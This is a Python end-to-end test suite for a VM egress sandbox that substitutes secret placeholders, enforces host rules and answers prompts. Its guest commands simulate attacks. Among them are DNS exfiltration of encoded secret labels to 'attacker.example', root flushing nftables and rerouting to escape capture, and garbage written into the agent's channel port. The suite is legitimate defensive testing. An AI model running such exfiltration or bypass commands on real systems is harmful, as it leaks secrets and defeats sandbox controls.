#!/usr/bin/env python3
"""End to end: the zero-token egress path in a real tiny VM (TCG unless KVM).

One nilboxd (test mode), one VM, local fake upstreams, in order:
  01 placeholders: `echo $OPENAI_API_KEY` prints OPENAI_API_KEY; proxy and CA
     variables in every exec; /etc/profile.d and /etc/environment; live
     updates when secrets are added, scoped to another VM, removed;
  02 explicit proxy: curl with `Authorization: Bearer $OPENAI_API_KEY` to
     api.example.test reaches the upstream with the real key; the guest sees
     the placeholder in the echo (A5); another allowed host gets the dummy;
  03 transparent capture: `curl --noproxy '*'` and a raw TCP client (busybox
     nc) are captured and judged by name and port;
  04 prompts answered from `nilbox prompts answer` (once, always, deny) and
     a prompt nobody answers (denied, with a readable reason);
  05 A12: IP literals (explicit and transparent, and an unmapped fake IP)
     are denied without a prompt, with a readable reason;
  06 DNS: fake IPs in 198.18.0.0/15, stable per name, AAAA empty, blocked
     names NXDOMAIN (curl: cannot resolve);
  07 A11: made-up subdomains (A and TXT) never reach a resolver: the test
     runs in its own network namespace whose only resolver logs every query
     (positive control: a name the proxy really resolves shows up there);
  08 A10: only lo and dummy0; UDP and ICMP go nowhere; root flushing the
     nftables rules or rerouting gains nothing (the explicit proxy still
     enforces the rules);
  09 A18: a second connection to the VM's channel socket gets nothing and
     the VM keeps working; A17: garbage written to the channel port from
     inside the guest (agent killed) tears the session down, the daemon
     stays up and the agent's channel comes back;
  10 the VM stops, and the daemon exits cleanly (no sanitizer reports).

Env: NB_TEST_NILBOX, NB_TEST_NILBOXD, NILBOX_AGENT, NB_E2E_CACHE,
NB_IMAGES_SRC (e2e_env).
"""
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import unittest

from e2e_env import AGENT, CACHE, IMAGES, NILBOX, TINY, VmSuite, build_image, need, wait_for
from daemon_harness import raw_exchange  # (tests/integ: on the path through e2e_env)
import fake_upstream
from proxy_env import wait_store_open

VM = "eg1"
REAL = "sk-real-e2e-7f3a9c1d5e"
NAMES = ("api.example.test", "other.example.test", "raw.example.test", "ask1.example.test",
         "ask2.example.test", "ask3.example.test", "ask4.example.test", "ask5.example.test",
         "blocked.example.test")
IN_NETNS = os.environ.get("NB_EGRESS_NETNS") == "1"


class DnsLog:
    """The namespace's only resolver: logs every query name, answers NXDOMAIN."""

    def __init__(self):
        self.names = []
        self.lock = threading.Lock()
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 53))
        self.t = threading.Thread(target=self.run, daemon=True)
        self.t.start()

    def run(self):
        while True:
            try:
                data, addr = self.sock.recvfrom(4096)
            except OSError:
                return
            if len(data) < 12:
                continue
            pos, labels = 12, []
            while pos < len(data) and data[pos]:
                n = data[pos]
                labels.append(data[pos + 1:pos + 1 + n].decode(errors="replace"))
                pos += 1 + n
            with self.lock:
                self.names.append(".".join(labels).lower())
            q = data[12:pos + 5]
            self.sock.sendto(data[:2] + b"\x81\x83\x00\x01\x00\x00\x00\x00\x00\x00" + q, addr)

    def seen(self):
        with self.lock:
            return list(self.names)


class Echo:
    """A raw TCP echo server counting its connections."""

    def __init__(self):
        self.conns = 0
        self.srv = socket.socket()
        self.srv.bind(("127.0.0.1", 0))
        self.srv.listen(16)
        self.port = self.srv.getsockname()[1]
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            try:
                c, _ = self.srv.accept()
            except OSError:
                return
            self.conns += 1
            threading.Thread(target=self.serve, args=(c,), daemon=True).start()

    def serve(self, c):
        with c:
            while True:
                d = c.recv(4096)
                if not d:
                    return
                c.sendall(d)


class EgressE2E(VmSuite):
    @classmethod
    def setup(cls):
        need()
        if not IN_NETNS:
            build_image("tiny", TINY, AGENT)  # (in the namespace: built before, no network there)
        cls.dns = DnsLog() if IN_NETNS else None
        cls.echo = Echo()
        cls.up_log = os.path.join(cls.tmp, "upstream.jsonl")
        cls.up_ca, cert, key = fake_upstream.make_ca(cls.tmp, names=NAMES + ("localhost",))
        cls.tls_port = cls.upstream(cls.up_log, "--cert", cert, "--key", key)
        cls.plain_port = cls.upstream(cls.up_log, "--plain")
        resolve = []
        for n in NAMES:  # (at most 16 overrides: NB_PROXY_MAX_RESOLVE)
            if n != "raw.example.test":
                resolve.append("%s:443:127.0.0.1:%d" % (n, cls.tls_port))
        resolve.append("raw.example.test:7000:127.0.0.1:%d" % cls.echo.port)
        resolve.append("raw.example.test:7001:127.0.0.1:%d" % cls.echo.port)
        cls.d = cls.daemon({"tiny": TINY}, {
            "NILBOX_TEST_MODE": "1", "NILBOX_PROMPT_TIMEOUT_MS": "6000",
            "NILBOX_TEST_UPSTREAM_CA": cls.up_ca, "NILBOX_TEST_RESOLVE": ",".join(resolve)},
            ["--key-file", os.path.join(cls.tmp, "master.key")])
        wait_store_open(cls.d, 20)
        c = cls.ccli
        c("secret", "set", "OPENAI_API_KEY", input=REAL)
        c("secret", "bind", "OPENAI_API_KEY", "--host", "api.example.test")
        for t in ("api.example.test:443", "other.example.test:443", "raw.example.test:7000",
                  "control.example.test:443"):
            c("rule", "add", "allow", t)
        c("rule", "add", "deny", "raw.example.test:7001")
        c("rule", "add", "deny", "blocked.example.test")
        # The fake upstreams live on loopback: only explicit IP rules admit them (A13).
        for p in (cls.tls_port, cls.plain_port, cls.echo.port):
            c("rule", "add", "allow", "127.0.0.1:%d" % p)
        c("vm", "create", VM, "--user", "root", timeout=120)  # root-level bypass attempts
        c("vm", "start", VM, timeout=300)

    @classmethod
    def ccli(cls, *args, input=None, timeout=60):
        r = cls.d.cli(*args, input=input, timeout=timeout)
        assert r.returncode == 0, (args, r.returncode, r.stdout, r.stderr)
        return r

    # -- helpers -----------------------------------------------------------
    def sh(self, script, timeout=120, input=None):
        return self.d.cli("exec", VM, "--", "sh", "-c", script, timeout=timeout, input=input)

    def out(self, script, timeout=120):
        r = self.sh(script, timeout=timeout)
        return r.stdout

    def received(self, host=None):
        try:
            with open(self.up_log) as f:
                rows = [json.loads(l) for l in f if l.endswith("\n") and l.strip()]
        except FileNotFoundError:
            return []
        if host:
            rows = [r for r in rows if dict((k.lower(), v) for k, v in r["headers"]).get("host") ==
                    host]
        return rows

    def auth_of(self, row):
        return dict((k.lower(), v) for k, v in row["headers"]).get("authorization")

    def prompts(self):
        r = self.d.cli("--json", "prompts")
        return json.loads(r.stdout)["prompts"] if r.returncode == 0 else []

    def curl_bg(self, url, *extra):
        cmd = [NILBOX, "exec", VM, "--", "curl", "-sS", "-i", "-m", "60", *extra, url]
        return subprocess.Popen(cmd, env=self.d.env, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True)

    @staticmethod
    def status(out):
        """The final HTTP status in `curl -i` output (after any CONNECT answer)."""
        codes = [l.split()[1] for l in out.splitlines()
                 if l.startswith("HTTP/") and "Connection established" not in l]
        return codes[-1] if codes else ""

    def answer_prompt(self, host, answer):
        p = wait_for(lambda: [x for x in self.prompts() if x["host"] == host], 60,
                     "a prompt for " + host)[0]
        self.assertEqual(p["vm"], VM)
        self.assertEqual(p["port"], 443)
        self.ccli("prompts", "answer", str(p["id"]), answer)

    # -- cases -------------------------------------------------------------
    def test_01_placeholders(self):
        self.assertEqual(self.out('echo "$OPENAI_API_KEY"').strip(), "OPENAI_API_KEY")
        env = dict(l.split("=", 1) for l in self.out("env").splitlines() if "=" in l)
        for k in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
            self.assertEqual(env.get(k), "http://127.0.0.1:8088", k)
        self.assertEqual(env.get("NO_PROXY"), "localhost,127.0.0.1,::1,host.nilbox.internal")
        self.assertEqual(env.get("no_proxy"), "localhost,127.0.0.1,::1,host.nilbox.internal")
        for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO",
                  "AWS_CA_BUNDLE"):
            self.assertEqual(env.get(k), "/etc/ssl/certs/ca-certificates.crt", k)
        self.assertEqual(env.get("NODE_EXTRA_CA_CERTS"), "/etc/nilbox/ca.pem")
        # The files, for programs not started through the agent.
        wait_for(lambda: "OPENAI_API_KEY" in self.out("cat /etc/profile.d/nilbox-env.sh"), 60,
                 "/etc/profile.d/nilbox-env.sh")
        self.assertIn('OPENAI_API_KEY="OPENAI_API_KEY"', self.out("cat /etc/environment"))
        self.assertEqual(self.out('env -i /bin/sh -l -c \'echo "$OPENAI_API_KEY $HTTPS_PROXY"\'')
                         .strip(), "OPENAI_API_KEY http://127.0.0.1:8088")
        ca = self.out("cat /etc/ssl/certs/ca-certificates.crt")
        self.assertIn("BEGIN CERTIFICATE", ca)
        # Live: a new secret appears, one scoped to another VM does not, a
        # removed one goes away.
        self.ccli("secret", "set", "ANTHROPIC_API_KEY", input="sk-ant-real-0042")
        self.ccli("secret", "set", "GITHUB_TOKEN", input="ghp-real-0043")
        self.ccli("secret", "bind", "GITHUB_TOKEN", "--host", "api.github.com", "--vm", "other")
        # GITHUB_TOKEN is provisioned for a moment between `set` and `bind --vm`:
        # wait for the state after both, not for the first push.
        def settled():
            f = self.out("cat /etc/profile.d/nilbox-env.sh /etc/nilbox/env /etc/environment")
            return "ANTHROPIC_API_KEY" in f and "GITHUB_TOKEN" not in f
        wait_for(settled, 60, "the new placeholder in the guest, the scoped one gone")
        self.assertEqual(self.out('echo "$ANTHROPIC_API_KEY/$GITHUB_TOKEN"').strip(),
                         "ANTHROPIC_API_KEY/")
        self.assertNotIn("GITHUB_TOKEN", self.out("cat /etc/nilbox/env /etc/environment"))
        self.ccli("secret", "rm", "ANTHROPIC_API_KEY")
        wait_for(lambda: "ANTHROPIC_API_KEY" not in self.out("cat /etc/environment"), 60,
                 "the removed placeholder to go")
        self.assertEqual(self.out('echo "[$ANTHROPIC_API_KEY]"').strip(), "[]")
        # No real value anywhere in the guest's configuration.
        self.assertEqual(self.sh("grep -r -l -e sk-real -e sk-ant-real -e ghp-real /etc /run"
                                 " 2>/dev/null").stdout, "")

    def test_02_explicit_proxy(self):
        n0 = len(self.received("api.example.test"))
        r = self.sh('curl -sS -m 60 https://api.example.test/echo -H '
                    '"Authorization: Bearer $OPENAI_API_KEY"')
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("Bearer OPENAI_API_KEY", r.stdout)  # the echo, redacted (A5)
        self.assertNotIn(REAL, r.stdout)
        rows = self.received("api.example.test")
        self.assertEqual(len(rows), n0 + 1)
        self.assertEqual(self.auth_of(rows[-1]), "Bearer " + REAL)
        # Another allowed host: the placeholder goes out as the harmless dummy (A3).
        r = self.sh('curl -sS -m 60 https://other.example.test/echo -H '
                    '"Authorization: Bearer $OPENAI_API_KEY"')
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.auth_of(self.received("other.example.test")[-1]),
                         "Bearer OPENAI_API_KEY")

    def test_03_transparent(self):
        n0 = len(self.received("api.example.test"))
        r = self.sh("curl -sS -m 60 --noproxy '*' https://api.example.test/echo -H "
                    '"Authorization: Bearer $OPENAI_API_KEY"')
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("Bearer OPENAI_API_KEY", r.stdout)
        rows = self.received("api.example.test")
        self.assertEqual(len(rows), n0 + 1)
        self.assertEqual(self.auth_of(rows[-1]), "Bearer " + REAL)
        # Without any proxy variable at all.
        r = self.sh("env -i /usr/bin/curl -sS -m 60 https://api.example.test/echo")
        self.assertEqual(r.returncode, 0, r.stderr)
        # A raw TCP client, judged by name and port: 7000 allowed, 7001 denied.
        c0 = self.echo.conns
        r = self.sh("echo hello-raw | nc -w 10 raw.example.test 7000")
        self.assertIn("hello-raw", r.stdout)
        self.assertEqual(self.echo.conns, c0 + 1)
        r = self.sh("echo hello-raw | nc -w 10 raw.example.test 7001")
        self.assertNotIn("hello-raw", r.stdout)
        self.assertIn("403", r.stdout)  # the reason, readable even on a raw port
        self.assertEqual(self.echo.conns, c0 + 1)
        rows = json.loads(self.ccli("--json", "audit", "--kind", "gate.decision").stdout)
        rows = rows["rows"] if isinstance(rows, dict) else rows
        self.assertTrue([x for x in rows if x.get("host") == "raw.example.test" and
                         x.get("port") == 7001 and x["detail"]["decision"] == "deny"], rows[-5:])

    def test_04_prompts(self):
        # allow-once: this request goes through, the next one asks again.
        p = self.curl_bg("https://ask1.example.test/echo")
        self.answer_prompt("ask1.example.test", "allow-once")
        out, err = p.communicate(timeout=90)
        self.assertEqual(self.status(out), "200", (out, err))
        p = self.curl_bg("https://ask1.example.test/echo")
        self.answer_prompt("ask1.example.test", "deny-once")
        out, err = p.communicate(timeout=90)
        self.assertEqual(self.status(out), "403", out)
        self.assertIn("x-nilbox-reason: deny-once", out.lower())
        # allow-always: a persisted rule, no prompt next time.
        p = self.curl_bg("https://ask2.example.test/echo")
        self.answer_prompt("ask2.example.test", "allow-always")
        out, err = p.communicate(timeout=90)
        self.assertEqual(self.status(out), "200", out)
        self.assertIn("ask2.example.test", self.ccli("rule", "ls").stdout)
        r = self.sh("curl -sS -m 30 -o /dev/null -w '%{http_code}' https://ask2.example.test/echo")
        self.assertEqual(r.stdout.strip(), "200")
        # deny-always.
        p = self.curl_bg("https://ask3.example.test/echo")
        self.answer_prompt("ask3.example.test", "deny-always")
        out, err = p.communicate(timeout=90)
        self.assertEqual(self.status(out), "403", out)
        r = self.sh("curl -sS -m 30 https://ask3.example.test/echo")
        self.assertIn('"code":"denied"', r.stdout)
        # Nobody answers: denied at the deadline, with a reason the agent can read.
        t0 = time.time()
        r = self.sh("curl -sS -i -m 60 https://ask4.example.test/echo")
        self.assertGreater(time.time() - t0, 5)
        self.assertEqual(self.status(r.stdout), "403", r.stdout)
        self.assertIn("x-nilbox-reason: prompt-timeout", r.stdout.lower())
        self.assertIn("nilbox prompts", r.stdout)
        self.assertEqual(self.received("ask4.example.test"), [])

    def test_05_ip_literals(self):
        for script in ("curl -sS -i -m 30 http://93.184.216.34/",
                       "curl -sS -i -m 30 --noproxy '*' http://93.184.216.34/",
                       "curl -sS -i -m 30 https://93.184.216.34/",
                       "curl -sS -i -m 30 --noproxy '*' https://93.184.216.34/",
                       "curl -sS -i -m 30 --noproxy '*' http://198.18.77.77/"):
            r = self.sh(script)
            self.assertEqual(self.status(r.stdout), "403", (script, r.stdout, r.stderr))
            self.assertIn('"code":"denied"', r.stdout, script)
            self.assertIn("x-nilbox-reason: no-rule", r.stdout.lower(), script)
        self.assertEqual(self.prompts(), [])  # IPs are never prompted for (A12)

    def test_06_dns(self):
        out = self.out("nslookup api.example.test; nslookup api.example.test")
        addrs = [l.split()[-1] for l in out.splitlines() if l.startswith("Address") and
                 "#" not in l and ":53" not in l]
        self.assertEqual(len(addrs), 2, out)
        self.assertEqual(addrs[0], addrs[1])
        a = [int(x) for x in addrs[0].split(".")]
        self.assertTrue(a[0] == 198 and a[1] in (18, 19), addrs)
        out = self.out("nslookup -type=AAAA api.example.test 2>&1; echo rc=$?")
        self.assertNotIn("Address: 198.", out)
        self.assertNotIn("::", out.replace("127.0.0.53", ""))
        out = self.out("nslookup blocked.example.test 2>&1")
        self.assertIn("NXDOMAIN", out)
        # A program resolving the name itself cannot; through the explicit
        # proxy (which never resolves in the guest) the denial is readable.
        r = self.sh("curl -sS -m 30 --noproxy '*' https://blocked.example.test/")
        self.assertEqual(r.returncode, 6, (r.stdout, r.stderr))  # could not resolve
        self.assertIn("resolve", r.stderr)
        r = self.sh("curl -sS -m 30 https://blocked.example.test/")
        self.assertIn('"code":"denied"', r.stdout)
        self.assertIn("deny rule", r.stdout)

    def test_07_dns_exfiltration(self):
        if not IN_NETNS:
            self.skipTest("needs a private network namespace (root and unshare)")
        secret_labels = ["c2VjcmV0LWRhdGEt%d" % i for i in range(5)]
        script = "; ".join("nslookup %s.attacker.example >/dev/null 2>&1; "
                           "nslookup -type=TXT %s.attacker.example >/dev/null 2>&1" % (l, l)
                           for l in secret_labels)
        self.sh(script)
        # The guest got fake addresses for them ...
        out = self.out("nslookup %s.attacker.example" % secret_labels[0])
        self.assertIn("Address: 198.1", out)
        # ... and no resolver anywhere was asked.
        self.assertFalse([n for n in self.dns.seen() if "attacker" in n], self.dns.seen())
        # Control: a name the proxy really resolves (allowed, no test override)
        # does reach this namespace's resolver, so the check above can fail.
        r = self.sh("curl -sS -m 30 https://control.example.test/")
        self.assertIn("cannot resolve", r.stdout)
        self.assertIn("control.example.test", self.dns.seen())

    def test_08_no_way_out(self):
        self.assertEqual(self.out("ls /sys/class/net").split(), ["dummy0", "lo"])
        t0 = time.time()
        r = self.sh("nslookup example.com 8.8.8.8 2>&1; echo rc=$?")
        self.assertNotIn("rc=0", r.stdout)
        self.assertLess(time.time() - t0, 40)
        r = self.sh("ping -c 1 -W 2 8.8.8.8 2>&1; echo rc=$?")
        self.assertNotIn("rc=0", r.stdout)
        self.assertNotIn("bytes from", r.stdout)
        # Root flushes the capture rules and reroutes: connections go nowhere,
        # and the explicit proxy still applies every rule.
        r = self.sh("nft flush ruleset && echo flushed; "
                    "curl -sS -m 8 --noproxy '*' https://api.example.test/echo; echo rc=$?")
        self.assertIn("flushed", r.stdout)
        self.assertNotIn("rc=0", r.stdout)
        self.assertNotIn("Bearer", r.stdout)
        r = self.sh("ip route del default; ip route add default dev lo; "
                    "curl -sS -m 8 --noproxy '*' https://api.example.test/echo; echo rc=$?")
        self.assertNotIn("rc=0", r.stdout)
        r = self.sh("curl -sS -m 30 http://93.184.216.34/")
        self.assertIn('"code":"denied"', r.stdout)
        r = self.sh("curl -sS -m 30 -o /dev/null -w '%{http_code}' https://api.example.test/echo")
        self.assertEqual(r.stdout.strip(), "200")
        # Put the capture back for whatever runs next.
        self.sh("ip route del default; /usr/lib/nilbox/net-setup")
        r = self.sh("curl -sS -m 30 --noproxy '*' -o /dev/null -w '%{http_code}' "
                    "https://api.example.test/echo")
        self.assertEqual(r.stdout.strip(), "200")

    def test_09_channel_attacks(self):
        info = self.inspect(VM)
        sessions = info.get("agent_sessions", 0)
        # A18: a process that connects to the channel socket learns nothing.
        got = raw_exchange(info["mux_socket"], b"", family=socket.AF_UNIX)
        self.assertEqual(got, b"")
        self.assertEqual(self.out("echo still-here").strip(), "still-here")
        # A17: root in the guest kills the agent and writes garbage into the
        # channel port: the host drops that session, the daemon stays up,
        # the respawned agent's channel comes back, and another VM never
        # notices.
        self.ccli("vm", "create", "eg2", "--user", "root", timeout=120)
        self.ccli("vm", "start", "eg2", timeout=300)
        other = self.inspect("eg2")["agent_sessions"]
        self.sh("setsid sh -c 'sleep 1; kill -9 $(pidof nilbox-agent); usleep 200000; "
                "head -c 200000 /dev/urandom > /dev/virtio-ports/org.nilbox.mux' "
                ">/dev/null 2>&1 < /dev/null & echo started")
        wait_for(lambda: self.inspect(VM)
                 .get("agent_sessions", 0) > sessions and
                 self.d.cli("exec", VM, "--", "true", timeout=30).returncode == 0, 120,
                 "the agent's channel to come back")
        st, _, _ = self.d.unix("GET", "/v1/status")
        self.assertEqual(st, 200)
        r = self.d.cli("exec", "eg2", "--", "sh", "-c", 'echo "$OPENAI_API_KEY"', timeout=60)
        self.assertEqual(r.stdout.strip(), "OPENAI_API_KEY")
        self.assertEqual(self.inspect("eg2")
                         ["agent_sessions"], other)
        self.ccli("vm", "stop", "eg2", timeout=120)
        self.ccli("vm", "rm", "eg2", timeout=60)
        self.assertIsNone(self.d.proc.poll())
        self.assertEqual(self.out('echo "$OPENAI_API_KEY"').strip(), "OPENAI_API_KEY")
        r = self.sh("curl -sS -m 60 -o /dev/null -w '%{http_code}' https://api.example.test/echo")
        self.assertEqual(r.stdout.strip(), "200")

    def test_10_clean_stop(self):
        # The VM stops cleanly and the daemon exits 0 on SIGTERM with nothing
        # from the sanitizers (ASan/UBSan builds of nilboxd).
        self.ccli("vm", "stop", VM, timeout=120)
        rc = self.d.terminate(timeout=30)
        err = self.d.stderr()
        for bad in ("AddressSanitizer", "LeakSanitizer", "runtime error:"):
            self.assertNotIn(bad, err, err[err.find(bad) - 2000:err.find(bad) + 4000])
        self.assertEqual(rc, 0, err[-3000:])


def enter_netns():
    """Re-runs this file in fresh network and mount namespaces whose only
    resolver is DnsLog (A11); falls back to the host's when that fails."""
    if IN_NETNS or os.geteuid() != 0 or not shutil.which("unshare"):
        return
    env = dict(os.environ, NB_EGRESS_NETNS="1")
    inner = ("ip link set lo up && f=$(mktemp) && echo 'nameserver 127.0.0.1' > $f && "
             "mount --bind $f /etc/resolv.conf && exec \"$0\" \"$@\"")
    r = subprocess.run(["unshare", "--net", "--mount", "--", "sh", "-c", inner,
                        sys.executable, os.path.abspath(__file__)] + sys.argv[1:], env=env)
    sys.exit(r.returncode)


if __name__ == "__main__":
    if (not IN_NETNS and AGENT and CACHE and IMAGES and
            subprocess.run(["unshare", "--net", "--mount", "true"],
                           capture_output=True).returncode == 0):
        build_image("tiny", TINY, AGENT)  # the kernel package download needs the network
        enter_netns()
    unittest.main(verbosity=2)
